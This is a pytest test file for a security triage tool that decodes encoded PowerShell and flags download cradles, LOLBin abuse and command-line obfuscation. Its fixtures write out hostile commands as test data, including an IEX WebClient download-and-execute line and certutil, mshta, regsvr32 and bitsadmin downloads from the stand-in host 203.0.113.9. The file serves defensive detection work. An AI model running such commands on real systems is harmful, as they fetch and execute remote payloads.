"""Command-line analysis: PowerShell decoding, cradles, LOLBins, obfuscation."""

import base64
import json

import pytest

from tests.conftest import SAMPLES
from triage.enrich.commands import CommandLineProvider, decode_powershell
from triage.models import Observable

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
BLOB = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()


def _analyse(command: str, type_: str = "command_line") -> dict[str, object]:
    result = CommandLineProvider().lookup(
        Observable.model_validate({"type": type_, "value": command})
    )
    return {
        "verdict": result.verdict,
        "score": result.score,
        "summary": result.summary,
        **result.details,
    }


@pytest.mark.parametrize(
    "flag", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "-ENCODEDC"]
)
def test_encoded_command_prefixes_decode(flag: str) -> None:
    assert decode_powershell(f"powershell.exe -nop {flag} {BLOB}") == SCRIPT


@pytest.mark.parametrize("flag", ["-ex", "-ea", "-File", "-encodedarguments"])
def test_other_flags_do_not_decode(flag: str) -> None:
    assert decode_powershell(f"powershell.exe {flag} {BLOB}") is None


def test_decoded_script_goes_into_details_and_summary() -> None:
    found = _analyse(f"powershell.exe -NoP -W Hidden -Exec Bypass -enc {BLOB}")
    assert found["decoded_script"] == SCRIPT
    assert "DownloadString" in str(found["summary"])
    assert "WebClient download" in found["download_cradles"]  # type: ignore[operator]
    tricks = found["obfuscation"]
    assert isinstance(tricks, list)
    assert {"-NoProfile", "hidden window", "execution policy bypass"} <= set(tricks)
    assert found["verdict"] == "malicious"


def test_real_sample_encoded_powershell_decodes() -> None:
    incident = json.loads(
        (SAMPLES / "S02-mde-word-encoded-powershell" / "incident.json").read_text()
    )
    commands = sorted({m for m in _strings(incident) if "-EncodedCommand" in m})
    assert commands, "sample should carry an encoded PowerShell command line"
    found = _analyse(commands[0])
    assert "DownloadFile" in str(found["decoded_script"])
    assert found["verdict"] == "malicious"


def _strings(node: object) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for v in node.values() for s in _strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v)]
    return []


@pytest.mark.parametrize(
    ("command", "lolbin"),
    [
        ("certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe", "certutil"),
        ("C:\\Windows\\System32\\mshta.exe http://203.0.113.9/x.hta", "mshta"),
        ("regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll", "regsvr32"),
        ("bitsadmin /transfer job http://203.0.113.9/a.exe C:\\a.exe", "bitsadmin"),
    ],
)
def test_lolbin_download_cradles(command: str, lolbin: str) -> None:
    found = _analyse(command)
    assert lolbin in found["lolbins"]  # type: ignore[operator]
    assert found["download_cradles"]
    assert found["verdict"] in {"suspicious", "malicious"}


@pytest.mark.parametrize(
    ("command", "trick"),
    [
        ("c^m^d /c who^am^i", "caret insertion"),
        ("powershell n`e`w-o`b`ject net.webclient", "backtick insertion"),
        ("powershell $a='Down'+'loadString'", "string concatenation"),
        ("powershell [char]73+[char]69+[char]88", "character codes / base64 decoding at run time"),
        ("powershell -c " + "A" * 240, "long base64 blob"),
    ],
)
def test_obfuscation_indicators(command: str, trick: str) -> None:
    assert trick in _analyse(command)["obfuscation"]  # type: ignore[operator]


def test_ordinary_commands_are_not_flagged() -> None:
    for command in ("notepad.exe C:\\Users\\a\\notes.txt", "git status", "ping -n 4 10.0.0.1"):
        found = _analyse(command)
        assert found["verdict"] == "unknown" and found["score"] == 0


def test_garbage_after_enc_does_not_decode() -> None:
    assert decode_powershell("powershell -enc !!!!notbase64!!!!") is None
    assert (
        decode_powershell("powershell -enc " + base64.b64encode(b"\x00\xff" * 40).decode()) is None
    )
